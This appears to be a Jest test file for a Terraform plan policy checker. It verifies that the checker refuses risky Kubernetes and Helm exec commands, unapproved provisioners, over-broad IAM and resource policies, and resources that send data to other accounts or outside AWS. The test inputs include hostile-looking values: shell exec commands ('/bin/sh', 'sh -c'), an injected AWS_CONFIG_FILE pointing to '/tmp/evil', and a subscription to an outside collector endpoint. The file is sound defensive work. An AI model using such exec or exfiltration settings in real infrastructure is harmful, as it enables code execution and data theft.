  test("aws eks get-token passes, with constant arguments or arguments the plan shows only as references (the stacks')", () => {
    expect(rulesOf(providers({ host: ref, exec: [exec(token)] }))).toEqual([]);
    expect(rulesOf(providers({ exec: [exec({ command: { constant_value: "aws" }, args: ref })] }))).toEqual([]);
    // The Helm provider 3's kubernetes attribute built from references cannot be read: nothing is compared.
    expect(rulesOf(providers({ kubernetes: ref }, "registry.terraform.io/hashicorp/helm"))).toEqual([]);
  });

  test.each([
    ["another command", { ...token, command: { constant_value: "/bin/sh" } }],
    ["a computed command", { ...token, command: ref }],
    ["arguments that do not start with eks get-token", { ...token, args: { constant_value: ["s3", "cp", "s3://x", "-"] } }],
    ["an env", { ...token, env: { constant_value: { AWS_CONFIG_FILE: "/tmp/evil" } } }],
    ["a computed env", { ...token, env: ref }],
  ])("a Kubernetes provider whose exec has %s is refused", (_what, fields) => {
    expect(rulesOf(providers({ exec: [exec(fields)] }))).toEqual(["PR-CODE-1"]);
  });

  test("a Helm provider's kubernetes block or constant object with another command, or a kubeconfig file, is refused", () => {
    const helm = "registry.terraform.io/hashicorp/helm";
    expect(rulesOf(providers({ kubernetes: [{ exec: [exec({ command: { constant_value: "sh" } })] }] }, helm))).toEqual(["PR-CODE-1"]);
    const constantObject = { constant_value: { exec: { command: "sh", args: ["-c", "x"] } } };
    expect(rulesOf(providers({ kubernetes: constantObject }, helm))).toEqual(["PR-CODE-1"]);
    expect(rulesOf(providers({ kubernetes: { constant_value: { exec: { command: "aws", args: ["eks", "get-token"] } } } }, helm))).toEqual(
      [],
    );
    expect(rulesOf(providers({ config_path: { constant_value: "~/.kube/config" } }))).toEqual(["PR-CODE-1"]);
  });
});

describe("the approved list and the synthesized stacks", () => {
  const stacks = synthApp([builtIn("dev"), builtIn("prod")]);
  const commands = Object.entries(stacks).flatMap(([stack, json]) =>
    Object.entries<Json>(json.resource ?? {}).flatMap(([type, resources]) =>
      Object.entries<Json>(resources).flatMap(([name, r]) =>
        (r.provisioner ?? []).flatMap((p: Json) =>
          Object.entries<Json>(p).map(([kind, v]) => ({ where: `${stack} ${type}.${name}`, kind, ...v })),
        ),
      ),
    ),
  );

  test("every Helm release, data source and provider the stacks synthesize is on its allow-list", () => {
    const releases = Object.values(stacks).flatMap((json) => Object.values<Json>(json.resource?.helm_release ?? {}));
    expect(releases.length).toBeGreaterThan(3);
    expect(releases.map((r) => chartProblem(r)).filter((p) => p !== undefined)).toEqual([]);
    expect(releases.map((r) => releaseHookProblem(r)).filter((p) => p !== undefined)).toEqual([]);
    const dataSources = Object.values(stacks).flatMap((json) => Object.keys(json.data ?? {}));
    expect(dataSources.filter((t) => !isAllowedDataSource(t))).toEqual([]);
    const sources = Object.values(stacks).flatMap((json) =>
      Object.values<Json>(json.terraform?.required_providers ?? {}).map((p) =>
        String(p.source).includes("/") ? p.source : `hashicorp/${p.source}`,
      ),
    );
    expect(sources.filter((s) => !ALLOWED_PROVIDERS.includes(s))).toEqual([]);
  });

  test("the stacks synthesize provisioners (the list is not checked against nothing)", () => {
    expect(commands.length).toBeGreaterThanOrEqual(4);
  });

  test("every provisioner the stacks synthesize is approved: its hash, interpreter and environment variable names", () => {
    for (const c of commands) {
      const entry = APPROVED_COMMANDS.find((a) => a.sha256 === sha256(c.command));
      expect({ where: c.where, approved: entry !== undefined }).toEqual({ where: c.where, approved: true });
      expect(c.kind).toBe(entry!.kind);
      expect(c.interpreter).toEqual(entry!.interpreter);
      expect(Object.keys(c.environment ?? {}).filter((k) => !(entry!.environment ?? []).includes(k))).toEqual([]);
    }
  });

  test("the same command text in dev and prod: a new environment needs no new line", () => {
    const byStack = (env: string) => new Set(commands.filter((c) => c.where.startsWith(`${env}-`)).map((c) => sha256(c.command)));
    expect(byStack("dev")).toEqual(byStack("prod"));
  });

  test("every entry of the list is used by a synthesized command (no stale approval), and says what it does", () => {
    const used = new Set(commands.map((c) => sha256(c.command)));
    for (const entry of APPROVED_COMMANDS) {
      expect(used.has(entry.sha256)).toBe(true);
      expect(entry.what.length).toBeGreaterThan(40);
    }
  });
});

describe("inline policies the configuration does not set", () => {
  const created = (type: string, expressions: Json): PlanInput => ({
    resource_changes: [
      {
        address: `${type}.X`,
        mode: "managed",
        type,
        change: { actions: ["create"], before: null, after: {}, after_unknown: { policy: true } },
      },
    ],
    configuration: { root_module: { resources: [{ address: `${type}.X`, mode: "managed", type, expressions }] } },
  });

  test("an unset Optional+Computed policy (new bucket, topic, key) is unknown in a plan and passes; a set unknown one does not", () => {
    expect(rulesOf(created("aws_s3_bucket", { bucket: { constant_value: "b" } }))).toEqual([]);
    expect(rulesOf(created("aws_sns_topic", {}))).toEqual([]);
    expect(rulesOf(created("aws_kms_key", {}))).toEqual([]);
    expect(rulesOf(created("aws_sns_topic", { policy: { references: ["aws_iam_role.r.arn"] } }))).toEqual(["PR-IAM-1"]);
  });
});

describe("a policy read from an aws_iam_policy_document at apply time", () => {
  const plan = (principals: Json, unknownStatement: Json = {}): PlanInput => ({
    resource_changes: [
      {
        address: "aws_s3_bucket_policy.B",
        mode: "managed",
        type: "aws_s3_bucket_policy",
        change: { actions: ["create"], before: null, after: { bucket: "b" }, after_unknown: { policy: true } },
      },
      {
        address: "data.aws_iam_policy_document.D",
        mode: "data",
        type: "aws_iam_policy_document",
        change: {
          actions: ["read"],
          before: null,
          after: { statement: [{ effect: "Allow", actions: ["s3:GetObject"], principals, condition: [] }] },
          after_unknown: { json: true, statement: [{ resources: true, ...unknownStatement }] },
        },
      },
    ],
    configuration: {
      root_module: {
        resources: [
          {
            address: "aws_s3_bucket_policy.B",
            mode: "managed",
            type: "aws_s3_bucket_policy",
            expressions: { policy: { references: ["data.aws_iam_policy_document.D.json", "data.aws_iam_policy_document.D"] } },
          },
        ],
      },
    },
  });

  test("its principals, known in the planned read, decide: the own account passes, another account is refused", () => {
    expect(rulesOf(plan([{ type: "AWS", identifiers: [`arn:aws:iam::${OWN}:role/r`] }]))).toEqual([]);
    expect(findings(plan([{ type: "AWS", identifiers: [`arn:aws:iam::${OTHER}:role/r`] }]))[0].after).toContain(OTHER);
    expect(findings(plan([{ type: "*", identifiers: ["*"] }]))[0].after).toContain("anyone");
  });

  test("principals unknown in the planned read: the policy is unknown, refused in production", () => {
    const unknown = plan([{ type: "AWS", identifiers: [null] }], { principals: [{ identifiers: [true] }] });
    expect(findings(unknown)[0].after).toBe("(known after apply)");
    expect(rulesOf(unknown, false)).toEqual([]);
  });
});

describe("the accounts of each stack, from the environment files", () => {
  test("a stack trusts its accountId, trustedAccountIds, ci/frontend repositories; its bootstrap stack those of its account", () => {
    const accounts = stackAccounts(BUILT_IN_DIR, { log: () => undefined, error: () => undefined });
    const githubRepositories = ["road-warrior/road-warrior-infra", "road-warrior/road-warrior-web"];
    expect(accounts["prod-data"]).toEqual({ trusted: ["222222222222"], adminAccounts: [], githubRepositories });
    expect(accounts["dev-apps"]).toEqual({ trusted: ["111111111111"], adminAccounts: [], githubRepositories });
    expect(accounts["bootstrap-222222222222"]).toEqual({ trusted: ["222222222222"], adminAccounts: [], githubRepositories });
  });

  test("unreadable environment files: none (each stack's accounts then come from its plan), said on stderr", () => {
    const errors: string[] = [];
    expect(stackAccounts("/nonexistent-environments", { log: () => undefined, error: (m: string) => errors.push(m) })).toEqual({});
    expect(errors.join("\n")).toMatch(/cannot be read: stacks' accounts are taken from their plans/);
  });
});

describe("destinations of another account (PR-IAM-1, hand-written plan JSON)", () => {
  test.each([
    ["aws_cloudwatch_log_subscription_filter", { destination_arn: `arn:aws:logs:eu-central-1:${OTHER}:destination:d` }],
    ["aws_sns_topic_subscription", { protocol: "sqs", endpoint: `arn:aws:sqs:eu-central-1:${OTHER}:q` }],
    ["aws_sns_topic_subscription", { protocol: "https", endpoint: "https://collector.example.net/in" }],
    ["aws_s3_bucket_inventory", { bucket: "b", destination: [{ bucket: [{ bucket_arn: "arn:aws:s3:::theirs", account_id: OTHER }] }] }],
    ["aws_s3_bucket_inventory", { bucket: "b", destination: [{ bucket: [{ bucket_arn: "arn:aws:s3:::theirs" }] }] }],
    ["aws_s3_bucket_replication_configuration", { rule: [{ destination: [{ bucket: "arn:aws:s3:::theirs", account: OTHER }] }] }],
    [
      "aws_ecr_replication_configuration",
      { replication_configuration: [{ rule: [{ destination: [{ region: "us-east-1", registry_id: OTHER }] }] }] },
    ],
    ["aws_db_cluster_snapshot", { shared_accounts: [OTHER] }],
    ["aws_db_snapshot", { shared_accounts: [OTHER] }],
    ["aws_backup_plan", { rule: [{ copy_action: [{ destination_vault_arn: `arn:aws:backup:eu-central-1:${OTHER}:backup-vault:v` }] }] }],
    ["aws_cloudwatch_event_target", { arn: `arn:aws:events:eu-central-1:${OTHER}:event-bus/default` }],
    ["aws_vpc_peering_connection", { peer_owner_id: OTHER, peer_vpc_id: "vpc-1" }],
  ])("a created %s sending data to another account (or outside AWS) is refused", (type, after) => {
    expect(rulesOf(planOf(type, after))).toContain("PR-IAM-1");
  });

  test("the own account, a listed account, and a value of the prior state pass", () => {
    expect(rulesOf(planOf("aws_cloudwatch_event_target", { arn: `arn:aws:sqs:eu-central-1:${OWN}:q` }))).toEqual([]);
    expect(
      findings(planOf("aws_db_cluster_snapshot", { shared_accounts: [OTHER] }), true, { trusted: [OWN, OTHER] }).map((f) => f.rule),
    ).toEqual([]);
    const subscription = { protocol: "email", endpoint: "oncall@road-warrior.example" };
    expect(rulesOf(planOf("aws_sns_topic_subscription", subscription, subscription))).toEqual([]);
  });

  test("an e-mail subscription is refused in production only (the alarm topics of non-production mail their on-call)", () => {
    const plan = planOf("aws_sns_topic_subscription", { protocol: "email", endpoint: "someone@example.net" });
    expect(rulesOf(plan, true)).toEqual(["PR-IAM-1"]);
    expect(rulesOf(plan, false)).toEqual([]);
  });
});

describe("services acting for any account, and keys IAM does not read (hand-written policies)", () => {
  const resourcePolicy = (statement: Json) =>
    admittedBy(policy(statement), true)!.filter((a) => !isAllowedPrincipal(a, "aws_sqs_queue_policy", scope));
  const publish = (service: string, condition?: Json) => ({
    Effect: "Allow",
    Principal: { Service: service },
    Action: "sqs:SendMessage",
    Resource: "*",
    ...(condition ? { Condition: condition } : {}),
  });

  test.each(["events.amazonaws.com", "sns.amazonaws.com", "s3.amazonaws.com", "delivery.logs.amazonaws.com", "cloudtrail.amazonaws.com"])(
    "%s in a resource policy without a source condition is refused (another account's rule or bucket could use it)",
    (service) => {
      expect(resourcePolicy(publish(service))).toHaveLength(1);
      expect(resourcePolicy(publish(service, { StringEquals: { "aws:SourceAccount": OTHER } }))).toHaveLength(1);
      expect(resourcePolicy(publish(service, { StringEquals: { "aws:SourceAccount": OWN } }))).toEqual([]);
      expect(resourcePolicy(publish(service, { ArnLike: { "aws:SourceArn": `arn:aws:events:eu-central-1:${OWN}:rule/*` } }))).toEqual([]);
    },
  );

  test("CloudWatch Logs in a key policy passes with its encryption context pinned to a log group of the own account", () => {
    const logs = (arn: string) => ({
      Effect: "Allow",
      Principal: { Service: "logs.eu-central-1.amazonaws.com" },
      Action: "kms:Decrypt*",
      Resource: "*",
      Condition: { ArnLike: { "kms:EncryptionContext:aws:logs:arn": arn } },
    });
    expect(resourcePolicy(logs(`arn:aws:logs:eu-central-1:${OWN}:log-group:*`))).toEqual([]);
    expect(resourcePolicy(logs(`arn:aws:logs:eu-central-1:${OTHER}:log-group:*`))).toHaveLength(1);
  });

  test("a statement or policy key IAM does not read (a lower-case principal) is refused, not skipped", () => {
    expect(resourcePolicy({ Effect: "Allow", principal: { AWS: `arn:aws:iam::${OTHER}:root` }, Action: "sqs:*" })).toHaveLength(1);
    expect(resourcePolicy({ Effect: "allow", Principal: { AWS: `arn:aws:iam::${OWN}:root` }, Action: "sqs:*" })).toHaveLength(1);
    const extra = admittedBy(JSON.stringify({ Version: "2012-10-17", statement: [], Statement: [] }))!;
    expect(extra.map((a) => a.account)).toEqual(["?"]);
  });
});

describe("the GitHub trusts the stacks synthesize pass the federated check", () => {
  test("every Federated statement of the synthesized documents, with its provider's ARN known, passes for its stack", () => {
    const stacks = synthApp([builtIn("dev"), builtIn("prod")]);
    const accounts = stackAccounts(BUILT_IN_DIR, { log: () => undefined, error: () => undefined });
    let checked = 0;
    for (const [stack, json] of Object.entries(stacks)) {
      for (const document of Object.values<Json>(json.data?.aws_iam_policy_document ?? {})) {
        for (const s of document.statement ?? []) {
          const federated = (s.principals ?? []).filter((p: Json) => p.type === "Federated");
          if (federated.length === 0) continue;
          const account = /(\d{12})/.exec(stack)?.[1] ?? accounts[stack].trusted[0];
          const condition: Json = {};
          for (const c of s.condition ?? []) condition[c.test] = { ...condition[c.test], [c.variable]: c.values };
          const trust = policy({
            Effect: "Allow",
            Principal: { Federated: `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com` },
            Action: s.actions,
            Condition: condition,
          });
          expect(admittedBy(trust)!.filter((a) => !isAllowedPrincipal(a, "aws_iam_role", accounts[stack]))).toEqual([]);
          checked++;
        }
      }
    }
    expect(checked).toBeGreaterThan(3);
  });
});
